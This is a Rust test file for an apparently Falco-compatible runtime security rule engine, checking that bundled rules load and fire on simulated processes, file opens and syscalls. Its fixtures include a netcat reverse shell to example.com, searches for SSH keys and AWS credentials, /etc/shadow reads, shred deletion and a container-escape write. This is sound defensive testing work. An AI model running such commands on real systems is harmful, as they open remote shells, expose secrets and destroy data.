//! The rules that come with the project, and Falco's: they load, and ours fire on what they are for.

mod common;

use common::{CREATE, Exec, FROM_MEMFD, READ, TRUNCATE, UPPER_LAYER, WRITE, World};
use event::EventType;
use rules::{Settings, Version, report};

fn read(name: &str) -> String {
    let path = format!("{}/../../rules/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&path).unwrap_or_else(|err| panic!("{path}: {err}"))
}

fn world() -> World {
    let stable = read("peregrine_rules.yaml");
    let incubating = read("peregrine_rules_incubating.yaml");
    let sandbox = read("peregrine_rules_sandbox.yaml");
    World::new(common::ruleset(
        &[&stable, &incubating, &sandbox],
        &Settings::default(),
    ))
}

#[test]
fn our_rules_load_without_a_warning_alone_and_together() {
    let stable = read("peregrine_rules.yaml");
    let incubating = read("peregrine_rules_incubating.yaml");
    let sandbox = read("peregrine_rules_sandbox.yaml");
    let sets: [&[&str]; 4] = [
        &[&stable],
        &[&stable, &incubating],
        &[&stable, &sandbox],
        &[&stable, &incubating, &sandbox],
    ];
    for set in sets {
        let loaded = common::load_texts(set, &Settings::default());
        assert_eq!(report::human(&loaded, false), "");
        let ruleset = loaded.ruleset.unwrap();
        for rule in ruleset.rules() {
            assert!(
                !rule.events().is_all(),
                "{} names no event type",
                rule.name()
            );
            let tags = rule.tags();
            assert!(
                tags.iter().any(|tag| tag.starts_with("maturity_")),
                "{}",
                rule.name()
            );
            assert!(
                tags.iter().any(|tag| tag.starts_with("mitre_")),
                "{}",
                rule.name()
            );
        }
    }
}

#[test]
fn falcos_rules_load_unchanged() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/conformance/rules/falco_rules.yaml"
    );
    let Ok(text) = std::fs::read_to_string(path) else {
        eprintln!("skipped: {path} is not there");
        return;
    };
    let loaded = common::load_texts(&[&text], &Settings::default());
    assert_eq!(report::human(&loaded, false), "");
    assert_eq!(loaded.ruleset.unwrap().rules().len(), 25);
    let old = Settings {
        engine: Version::new(0, 56, 0),
        plugins: Vec::new(),
        ..Settings::default()
    };
    let loaded = common::load_texts(&[&text], &old);
    assert_eq!(
        loaded.diagnostics.len(),
        2,
        "{}",
        report::human(&loaded, false)
    );
}

/// Names of a process that runs what `path` names.
fn run(world: &mut World, exec: &Exec<'_>) -> Vec<String> {
    world.process(exec.pid, exec.parent, "event-generator", &[]);
    world.exec(exec)
}

#[test]
fn programs_that_are_run() {
    let container = |exec: Exec<'static>| Exec {
        in_container: true,
        ..exec
    };
    let server = |exec: Exec<'static>| Exec { parent: 50, ..exec };
    let daemon = |exec: Exec<'static>| Exec { uid: 1, ..exec };
    for (rule, exec) in [
        (
            "Search Private Keys or Passwords",
            Exec::new(
                "/usr/bin/find",
                &["/tmp", "-maxdepth", "1", "-iname", "id_rsa"],
            ),
        ),
        (
            "Find AWS Credentials",
            Exec::new(
                "/usr/bin/find",
                &["/tmp", "-maxdepth", "1", "-iname", ".aws/credentials"],
            ),
        ),
        (
            "Run shell untrusted",
            server(Exec::new("/bin/sh", &["-c", "ls > /dev/null"])),
        ),
        (
            "System user interactive",
            daemon(Exec::new("/bin/login", &[])),
        ),
        (
            "Terminal shell in container",
            Exec {
                tty: 34816,
                parent: 60,
                ..container(Exec::new("/bin/sh", &[]))
            },
        ),
        (
            "Execution from /dev/shm",
            Exec::new("/bin/sh", &["-c", "/dev/shm/falco-event-generator.sh"]),
        ),
        ("Execution from /dev/shm", Exec::new("/dev/shm/tool", &[])),
        (
            "Execution from /dev/shm",
            Exec {
                cwd: "/dev/shm",
                exe: "./tool",
                ..Exec::new("/dev/shm/tool", &[])
            },
        ),
        (
            "Fileless execution via memfd_create",
            Exec {
                flags: FROM_MEMFD,
                ..Exec::new("/memfd:program", &["run"])
            },
        ),
        (
            "Drop and execute new binary in container",
            Exec {
                flags: UPPER_LAYER,
                ..container(Exec::new("/bin/x", &[]))
            },
        ),
        (
            "Netcat Remote Code Execution in Container",
            container(Exec::new(
                "/usr/bin/nc",
                &["-e", "/bin/sh", "example.com", "22"],
            )),
        ),
        (
            "Launch Suspicious Network Tool on Host",
            Exec::new("/usr/bin/nmap", &["-sn", "172.17.0.1/32"]),
        ),
        (
            "Debugfs Launched in Privileged Container",
            container(Exec::new("/sbin/debugfs", &["-V"])),
        ),
        (
            "Mount Launched in Privileged Container",
            container(Exec::new("/bin/mount", &["-o"])),
        ),
        (
            "Remove Bulk Data from Disk",
            Exec::new("/usr/bin/shred", &["-u", "/tmp/x"]),
        ),
    ] {
        let mut world = world();
        world
            .process(50, 1, "httpd", &[])
            .process(60, 1, "runc", &[]);
        assert_eq!(
            run(&mut world, &exec),
            [rule],
            "{} {:?}",
            exec.path,
            exec.args
        );
    }
}

#[test]
fn programs_that_are_harmless() {
    for exec in [
        Exec::new("/usr/bin/find", &["/tmp", "-name", "*.o"]),
        Exec::new("/bin/sh", &["-c", "ls"]),
        Exec::new("/usr/bin/cat", &["/dev/shm/x"]),
        Exec::new("/usr/bin/mount", &["/mnt"]),
        Exec {
            in_container: true,
            ..Exec::new("/usr/bin/nc", &["-z", "example.com", "22"])
        },
    ] {
        let mut world = World::new(common::ruleset(
            &[&read("peregrine_rules.yaml")],
            &Settings::default(),
        ));
        assert_eq!(
            run(&mut world, &exec),
            Vec::<String>::new(),
            "{} {:?}",
            exec.path,
            exec.args
        );
    }
}

#[test]
fn files_that_are_opened() {
    let mut world = world();
    world
        .process(100, 1, "event-generator", &["run"])
        .process(101, 1, "httpd", &[]);
    world
        .process_with(102, 1, "sh", &[], World::in_container)
        .process(103, 1, "sshd", &[]);
    world
        .process(104, 1, "dpkg", &[])
        .process(105, 104, "sh", &[])
        .process(106, 1, "rsyslogd", &[]);
    let new = WRITE | CREATE | TRUNCATE;
    for (tid, path, flags, expected) in [
        (
            100,
            "/etc/shadow",
            READ,
            Some("Read sensitive file untrusted"),
        ),
        (
            100,
            "/etc/pam.d/su",
            READ,
            Some("Read sensitive file untrusted"),
        ),
        (103, "/etc/shadow", READ, None),
        (105, "/etc/shadow", READ, None),
        (
            101,
            "/etc/shadow",
            READ,
            Some("Read sensitive file trusted after startup"),
        ),
        (
            100,
            "/etc/../etc/../etc/shadow",
            READ,
            Some("Directory traversal monitored file read"),
        ),
        (100, "/tmp/x/syslog", new, Some("Clear Log Activities")),
        (106, "/var/log/syslog", new, None),
        (100, "/var/log/syslog", WRITE, None),
        (
            102,
            "/release_agent",
            new,
            Some("Detect release_agent File Container Escapes"),
        ),
        (100, "/bin/x", READ | new, Some("Write below binary dir")),
        (100, "/usr/bin/x", new, Some("Write below binary dir")),
        (100, "/usr/sbin/deep/x", new, Some("Write below binary dir")),
        (104, "/usr/bin/x", new, None),
        (100, "/bin/ls", READ, None),
        (100, "/opt/binary", new, None),
    ] {
        let found = world.open(tid, path, flags);
        assert_eq!(found, Vec::from_iter(expected), "{path}");
    }
}

#[test]
fn calls_that_are_made() {
    let mut world = world();
    world
        .process(100, 1, "event-generator", &[])
        .process(101, 1, "runc", &[]);
    world.process_with(102, 1, "nc", &[], World::in_container);
    world
        .process(103, 1, "ssh", &["-p", "443"])
        .tcp(103, 4, ("10.0.0.1", 4000), ("10.0.0.2", 443));
    world.tcp(102, 4, ("10.0.0.1", 4000), ("10.0.0.2", 443));
    let mut check = |rule: Option<&str>, event_type, tid, fill: &dyn Fn(&mut event::Encoder)| {
        let found = world.names(event_type, tid, |event| fill(event));
        assert_eq!(found, Vec::from_iter(rule), "{event_type:?} {tid}");
    };
    check(
        Some("Change thread namespace"),
        EventType::SYSCALL_SETNS_X,
        100,
        &|event| {
            event.i64(-9).i64(0).u32(0);
        },
    );
    check(None, EventType::SYSCALL_SETNS_X, 101, &|event| {
        event.i64(0).i64(3).u32(0);
    });
    check(
        Some("Create Hardlink Over Sensitive Files"),
        EventType::SYSCALL_LINKAT_2_X,
        100,
        &|event| {
            event
                .i64(0)
                .i64(-100)
                .str("/etc/shadow")
                .i64(-100)
                .str("/tmp/x")
                .u32(0);
        },
    );
    check(
        Some("Create Symlink Over Sensitive Files"),
        EventType::SYSCALL_SYMLINKAT_X,
        100,
        &|event| {
            event.i64(0).str("/etc").i64(-100).str("/tmp/etc_link");
        },
    );
    check(None, EventType::SYSCALL_SYMLINKAT_X, 100, &|event| {
        event
            .i64(0)
            .str("/etc/hosts")
            .i64(-100)
            .str("/tmp/etc_link");
    });
    for (request, rule) in [
        (1, "PTRACE anti-debug attempt"),
        (11, "PTRACE attached to process"),
    ] {
        check(Some(rule), EventType::SYSCALL_PTRACE_X, 100, &|event| {
            event
                .i64(0)
                .bytes(&[0; 9])
                .bytes(&[0; 9])
                .u16(request)
                .i64(7);
        });
    }
    check(
        Some("Packet socket created in container"),
        EventType::SOCKET_SOCKET_X,
        102,
        &|event| {
            event.i64(5).u32(17).u32(3).u32(3).u32(0);
        },
    );
    check(None, EventType::SOCKET_SOCKET_X, 102, &|event| {
        event.i64(5).u32(2).u32(1).u32(0).u32(0);
    });
    check(
        Some("Redirect STDOUT/STDIN to Network Connection in Container"),
        EventType::SYSCALL_DUP2_X,
        102,
        &|event| {
            event.i64(1).i64(4).i64(1);
        },
    );
}
